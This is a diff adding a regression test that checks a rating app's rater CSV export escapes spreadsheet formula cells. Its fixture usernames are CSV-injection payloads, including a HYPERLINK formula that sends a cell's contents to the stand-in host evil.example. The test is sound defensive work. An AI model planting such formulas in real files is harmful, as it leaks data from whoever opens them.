@@ -233,3 +233,22 @@ def test_the_campaign_page_and_rater_table_do_not_fetch_the_rater_details(campai
         selected = snapshot_reads[0].split(" FROM ")[0]
         assert 'AS "data__progress"' in selected and "rater_details" not in selected
         assert not re.search(r'"data"(?! ->)', selected), "never the whole data column"
+
+
+# Five raters: the campaign's pairs want five ratings each.
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(A1)", "+cmd", "-2+3", "\tx=1"]
+
+
+def test_rater_csv_escapes_cells_a_spreadsheet_would_run(client):
+    """Issue #25: cells of the rater-table CSV that begin with = reached spreadsheets
+    unescaped. A rater's name is theirs to choose (crowd ids, old accounts): every cell
+    that begins like a formula is written with a leading ' (defusedcsv)."""
+    batch = SamplingBatchFactory(split=SplitFactory(dataset=DatasetFactory(name="coco")))
+    for _ in range(3):
+        PairFactory(batch=batch, kind=TaskKind.STS)
+    raters = [UserFactory(username=name, roles=["rater"]) for name in FORMULA_NAMES]
+    rate_campaign(batch.dataset, raters)
+    response = client_for("admin").get("/campaigns/coco/raters/?format=csv")
+    assert response.status_code == 200
+    names = sorted(row["username"] for row in csv.DictReader(io.StringIO(response.content.decode())))
+    assert names == sorted("'" + name for name in FORMULA_NAMES)
